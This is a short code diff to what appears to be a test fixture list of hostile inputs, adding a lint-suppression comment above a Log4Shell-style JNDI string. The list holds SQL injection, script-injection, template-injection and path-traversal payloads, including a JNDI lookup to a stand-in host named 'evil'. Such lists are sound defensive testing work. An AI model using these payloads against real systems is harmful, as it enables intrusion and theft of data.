@@ -28,6 +28,7 @@ const nastyConstants: unknown[] = [
   '" UNION SELECT * FROM sessions --',
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-looking string is the point
   '${jndi:ldap://evil/a}',
   '{{7*7}}',
   '../../etc/passwd',
